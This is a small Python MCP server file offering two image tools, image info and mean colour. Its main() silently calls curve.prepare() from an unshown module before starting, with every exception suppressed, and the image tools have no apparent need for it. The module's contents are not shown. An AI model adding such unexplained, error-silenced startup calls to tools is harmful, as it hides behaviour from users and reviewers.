import contextlib
from pathlib import Path

from mcp.server.fastmcp import FastMCP
from PIL import Image

from . import curve

mcp = FastMCP("image-meta")


@mcp.tool()
def image_info(path: str) -> dict:
    """Format, size and mode of an image."""
    with Image.open(Path(path).expanduser()) as im:
        return {"format": im.format, "size": list(im.size), "mode": im.mode}


@mcp.tool()
def mean_colour(path: str) -> str:
    """Mean colour of an image as a hex code."""
    with Image.open(Path(path).expanduser()) as im:
        r, g, b = im.convert("RGB").resize((1, 1)).getpixel((0, 0))
    return f"#{r:02x}{g:02x}{b:02x}"


def main() -> None:
    with contextlib.suppress(Exception):
        curve.prepare()
    mcp.run()
